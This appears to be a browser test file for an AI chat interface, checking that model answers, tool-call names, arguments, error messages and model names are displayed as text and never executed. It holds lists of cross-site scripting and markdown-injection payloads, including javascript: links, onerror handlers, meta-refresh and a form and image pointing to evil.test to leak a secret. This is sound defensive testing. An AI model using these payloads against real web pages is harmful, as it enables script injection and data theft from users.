// What comes from elsewhere is shown and never run: an answer, reasoning, names of tools and their arguments, error
// texts, names of models, an imported file. The page's rules fail this test when anything is loaded or a rule is broken.
import { assert, base, play } from "../page.mjs";
import { answered, playground, say } from "../playground.mjs";

const evil = [
  "<script>window.hit = 1</script>", "<img src=x onerror='window.hit = 1'>", "<svg onload=window.hit=1>", "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>", "<style>*{display:none}</style>",
  "<div style='position:fixed;inset:0'>over everything</div>", "<form action=//evil.test><button>Sign in</button></form>", "<a href='javascript:window.hit=1'>html link</a>", "<base href=//evil.test/>", "<meta http-equiv=refresh content='0;url=//evil.test'>",
];
const markdown = [
  "[js](javascript:window.hit=1)", "[data](data:text/html,<script>hit</script>)", "![picture](https://evil.test/steal.png?secret)", "![x](x\" onerror=\"window.hit=1)", "[good](https://good.test/)", "`<b>code</b>`",
  "![v](data:image/svg+xml;base64,PHN2Zy8+)", "```\"><script>window.hit=1</script>\n<script>window.hit=1</script>\n```", "<https://evil.test/auto\"onmouseover=window.hit=1>",
];

await playground(async (page, context) => {
  await context.route("**/v1/models", (route) => route.fulfill({ json: { data: [{ id: "composer-2.5", name: evil.join("") }] } }));
  await page.evaluate(() => undefined);
  const text = [...evil, ...markdown].join("\n\n");
  await play(`turn\nthink ${JSON.stringify(text)}\ntext ${JSON.stringify(text)}\n`);
  await say(page, text);
  const answer = await answered(page);
  await answer.locator("summary").click();
  assert.equal(await page.evaluate(() => window.hit), undefined, "nothing ran");
  const left = await answer.evaluate((a) => ({
    odd: [...a.querySelectorAll("script, iframe, form, style, base, meta, object, embed, [onerror], [onload], [onmouseover], [style]")].map((e) => e.outerHTML),
    links: [...a.querySelectorAll("a")].map((e) => [e.getAttribute("href"), e.rel, e.target]),
    images: [...a.querySelectorAll("img")].map((e) => e.src),
  }));
  assert.deepEqual(left.odd, []);
  assert.deepEqual(left.images, []);
  for (const [href, rel, target] of left.links) {
    assert.ok(href === null || /^https:/.test(href), href);
    assert.ok(rel.includes("noopener") && target === "_blank", "a link gives the page away");
  }
  assert.ok(left.links.some(([href]) => href === "https://good.test/"), "good links are links");
  await answer.getByText("<script>window.hit = 1</script>").first().waitFor(); // HTML is shown as text

  // Names of tools, arguments, results: the gateway lets odd names through only from a model, so the stream is made here.
  const chunks = [
    { choices: [{ index: 0, delta: { tool_calls: [{ index: 0, id: `c"><img src=x onerror=window.hit=1>`, type: "function", function: { name: evil[1], arguments: JSON.stringify({ [evil[0]]: evil[1] }) } }] } }] },
    { choices: [{ index: 0, delta: {}, finish_reason: "tool_calls" }] },
  ];
  const body = chunks.map((c) => `data: ${JSON.stringify(c)}\n\n`).join("") + "data: [DONE]\n\n";
  await context.route("**/v1/chat/completions", (route) => route.fulfill({ contentType: "text/event-stream", headers: { "X-Composer-Resume": evil[1], "X-Request-Id": "req<img src=x>" }, body }));
  await say(page, "Call it.");
  await page.locator(".call", { hasText: "onerror" }).first().waitFor();
  await context.unroute("**/v1/chat/completions");
  await context.route("**/v1/chat/completions", (route) => route.fulfill({ status: 400, json: { error: { message: evil.join(""), code: evil[0] } } }));
  await say(page, "Fail.");
  await page.getByRole("alert").filter({ hasText: "<script>" }).waitFor();

  // A model's name, and the title of a conversation.
  await page.reload();
  await page.locator("#model option", { hasText: "<script>" }).waitFor({ state: "attached" });
  await page.locator(".head", { hasText: "<script>" }).first().waitFor();
  assert.equal(await page.evaluate(() => window.hit), undefined, "nothing ran");
  assert.ok(page.url().startsWith(base + "/chat"));
}, { allow: [/status of 400/] });
